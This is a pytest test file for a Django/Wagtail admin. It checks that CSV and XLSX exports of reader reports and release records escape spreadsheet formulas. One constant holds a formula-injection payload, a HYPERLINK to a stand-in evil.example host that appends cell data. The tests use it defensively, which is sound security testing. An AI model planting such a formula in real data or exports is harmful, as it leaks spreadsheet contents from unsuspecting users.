"""What leaves the lists as a spreadsheet runs nothing in it."""

import csv
import io

import pytest
from openpyxl import load_workbook
from wagtail_modeladmin.options import ModelAdmin

from research.admin.exports import SafeExportMixin
from research.models import ReaderReport, Release
from tests.factories import schedule

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
REPORTS = "/admin/research/readerreport/"
RELEASES = "/admin/research/release/"


def kinds_of(cls):
    """Return every class made of one, with those made of them."""
    return {found for made in cls.__subclasses__() for found in ({made} | kinds_of(made))}


def cells_of(client, address, kind):
    """Return the row under the heading of a list's export."""
    content = b"".join(client.get(address, {"export": kind}).streaming_content)
    if kind == "csv":
        return list(csv.reader(io.StringIO(content.decode(), newline="")))[1]
    return [cell.value for cell in load_workbook(io.BytesIO(content)).active[2]]


def test_every_list_that_exports_does_so_safely():
    exporting = {admin for admin in kinds_of(ModelAdmin) if admin.list_export}

    unsafe = {admin.__name__ for admin in exporting if not issubclass(admin.index_view_class, SafeExportMixin)}

    assert {"StudyAdmin", "ReaderReportAdmin", "ReleaseAdmin"} <= {admin.__name__ for admin in exporting}
    assert unsafe == set()


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_formula_in_a_readers_report_is_written_as_text(client, editor, public_article, kind):
    ReaderReport.objects.create(article=public_article, kind="wrong", words=FORMULA)
    client.force_login(editor)

    cells = cells_of(client, REPORTS, kind)

    assert f"'{FORMULA}" in cells
    assert FORMULA not in cells


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_formula_in_a_line_of_the_ledger_is_written_as_text(client, editor, article, kind):
    release = schedule(article)
    Release.objects.filter(pk=release.pk).update(reason=FORMULA)
    client.force_login(editor)

    cells = cells_of(client, RELEASES, kind)

    assert f"'{FORMULA}" in cells
    assert FORMULA not in cells
